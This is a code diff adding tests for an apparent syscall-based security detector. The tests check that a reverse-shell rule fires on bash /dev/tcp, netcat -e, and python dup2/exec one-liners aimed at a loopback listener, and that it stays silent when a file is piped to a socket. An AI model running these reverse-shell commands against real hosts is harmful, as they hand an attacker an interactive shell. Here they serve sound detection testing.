@@ -1,4 +1,5 @@
 import { cpSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -143,6 +144,58 @@ s.close()
     const f = only(viaExec.findings);
     expect(f.process.comm).toBe('curl');
     expect(f.chain[0]!.comm).toBe('cat');
+  });
+});
+
+describe('live: reverse shells (shell.stdio-over-socket)', () => {
+  /** A listener that sends `exit` to every connection, so the shell on the other end ends by itself. */
+  let listener: Server;
+  let port = 0;
+  beforeAll(async () => {
+    listener = createServer((s) => {
+      s.on('error', () => undefined);
+      s.on('data', () => undefined);
+      s.write('exit\n');
+    });
+    await new Promise<void>((r) => listener.listen(0, '127.0.0.2', () => r()));
+    port = (listener.address() as { port: number }).port;
+  });
+  afterAll(() => new Promise<void>((r) => listener.close(() => r())));
+
+  const shellFinding = (findings: Finding[]): Finding => {
+    const shells = findings.filter((f) => f.rule === 'shell.stdio-over-socket');
+    expect(shells).toHaveLength(1);
+    expect(() => Finding.parse(shells[0])).not.toThrow();
+    expect(shells[0]).toMatchObject({ category: 'reverse-shell', severity: 'critical', sink: { family: 'inet', address: '127.0.0.2', port } });
+    return shells[0]!;
+  };
+
+  it('bash -i >& /dev/tcp/127.0.0.2/PORT 0>&1', async () => {
+    const r = await h.run('revshell-bash', `bash -i >& /dev/tcp/127.0.0.2/${port} 0>&1`);
+    const f = shellFinding(r.findings);
+    expect(f.process.comm).toBe('bash');
+    expect(f.chain.every((hop) => hop.object === `socket 127.0.0.2:${port}`)).toBe(true);
+  });
+
+  it('nc -e /bin/sh 127.0.0.2 PORT (netcat-traditional: dup2 + exec)', async () => {
+    const r = await h.run('revshell-nc', `nc.traditional -e /bin/sh 127.0.0.2 ${port}`);
+    const f = shellFinding(r.findings);
+    expect(f.chain.at(-1)).toMatchObject({ syscall: 'execve', object: '/bin/sh' });
+  });
+
+  it('python: connect, dup2 the socket onto 0/1/2, exec /bin/sh', async () => {
+    const r = await h.run(
+      'revshell-python',
+      `python3 -c 'import socket,os; s=socket.create_connection(("127.0.0.2",${port})); [os.dup2(s.fileno(),f) for f in (0,1,2)]; os.execv("/bin/sh",["sh","-i"])'`,
+    );
+    const f = shellFinding(r.findings);
+    expect(f.chain[0]!.comm).toBe('python3');
+  });
+
+  it('must not fire: a shell that sends a file to a socket (one dup, no shell on it)', async () => {
+    const r = await h.run('not-revshell', `cat ${join(dir, 'notes.txt')} > /dev/tcp/127.0.0.2/${port}; echo done`);
+    expect(r.code).toBe(0);
+    expect(r.findings).toEqual([]);
   });
 });
 
